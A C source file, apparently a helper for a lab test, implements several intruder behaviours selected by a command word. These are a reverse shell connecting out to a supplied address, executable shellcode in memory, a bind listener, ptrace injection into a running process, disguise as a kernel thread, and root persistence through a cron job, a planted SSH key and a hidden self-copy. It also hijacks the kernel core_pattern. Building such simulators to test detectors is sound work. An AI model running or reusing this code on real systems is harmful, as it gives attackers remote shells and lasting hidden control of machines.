/* SPDX-License-Identifier: Apache-2.0
 * second: what the intruders of tests/lab/second.py do, one way a word; each goes on until it is killed.
 * revsh ADDRESS PORT: a shell whose input and output are a connection out. hold: waits, with memory that it wrote and then
 * made executable. listen PORT: a shell's door. trace PID: seizes a process, writes a few bytes of its code, stays attached.
 * kthread NAME: takes a kernel thread's name and wipes its arguments. cron ROOT: leaves a job, a key and itself below a
 * mounted root. core ROOT: names a program of its own for core dumps. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <elf.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>
static void forever(void) { for (;;) pause(); }
static int put(const char *path, const char *text, int mode) {
    char b[512]; snprintf(b, sizeof b, "%s", path);
    for (char *s = b + 1; *s; s++) if (*s == '/') { *s = 0; mkdir(b, 0755); *s = '/'; }
    int f = open(path, O_CREAT | O_WRONLY | O_TRUNC, mode); if (f < 0) return 1;
    int n = strlen(text), k = write(f, text, n); close(f); return k != n;
}
int main(int argc, char **argv) {
    char *what = argc > 1 ? argv[1] : "", *one = argc > 2 ? argv[2] : "";
    if (!strcmp(what, "revsh")) {
        struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(atoi(argv[3]))}; inet_aton(one, &a.sin_addr);
        int s = socket(AF_INET, SOCK_STREAM, 0); if (connect(s, (void *)&a, sizeof a)) return 1;
        for (int i = 0; i < 3; i++) dup2(s, i);
        char *v[] = {"sh", "-i", 0}, *e[] = {"PATH=/bin:/usr/bin", "HISTFILE=/dev/null", "TERM=xterm", 0};
        execve("/bin/sh", v, e); return 1;
    } else if (!strcmp(what, "hold")) {
        unsigned char *m = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        memcpy(m, "\x48\x31\xc0\x48\xff\xc0\x0f\x05\xc3", 9); memset(m + 64, 0x90, 2048); mprotect(m, 4096, PROT_READ | PROT_EXEC); forever();
    } else if (!strcmp(what, "listen")) {
        struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(atoi(one))}; int s = socket(AF_INET, SOCK_STREAM, 0);
        if (bind(s, (void *)&a, sizeof a) || listen(s, 1)) return 1;
        for (;;) { int c = accept(s, 0, 0); if (c >= 0) close(c); }
    } else if (!strcmp(what, "trace")) {
        int pid = atoi(one), st; char p[64]; Elf64_Ehdr h; snprintf(p, sizeof p, "/proc/%d/exe", pid);
        int f = open(p, O_RDONLY); if (f < 0 || read(f, &h, sizeof h) != sizeof h || h.e_type != ET_EXEC) return 2; close(f);
        if (ptrace(PTRACE_SEIZE, pid, 0, 0) || ptrace(PTRACE_INTERRUPT, pid, 0, 0) || waitpid(pid, &st, __WALL) < 0) return 3;
        for (int i = 0; i < 4; i++) if (ptrace(PTRACE_POKETEXT, pid, h.e_entry + 8 * i, 0x9090909090909090UL)) return 4;
        if (ptrace(PTRACE_CONT, pid, 0, 0)) return 5;
        forever();
    } else if (!strcmp(what, "kthread")) {
        prctl(PR_SET_NAME, one); char *end = argv[argc - 1] + strlen(argv[argc - 1]); memset(argv[0], 0, end - argv[0]); forever();
    } else if (!strcmp(what, "cron")) {
        char b[512]; snprintf(b, sizeof b, "%s/etc/cron.d/sysstat-update", one);
        if (put(b, "*/5 * * * * root /opt/.sys/updater hold >/dev/null 2>&1\n", 0644)) return 1;
        snprintf(b, sizeof b, "%s/root/.ssh/authorized_keys", one);
        if (put(b, "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKHx0hJ0c0nJ3p4m8mG7yq0mGk3m5VvX9w1hLrWc6Qf2 ops@jump\n", 0600)) return 1;
        snprintf(b, sizeof b, "%s/opt/.sys/updater", one); if (put(b, "", 0755)) return 1;
        static char copy[4 << 20]; int f = open("/proc/self/exe", O_RDONLY), n = read(f, copy, sizeof copy); close(f);
        f = open(b, O_WRONLY); if (n <= 0 || write(f, copy, n) != n) return 1; close(f);
    } else if (!strcmp(what, "core")) return put("/proc/sys/kernel/core_pattern", "|/proc/%P/root/tmp/.h %P", 0644);
    return 0;
}
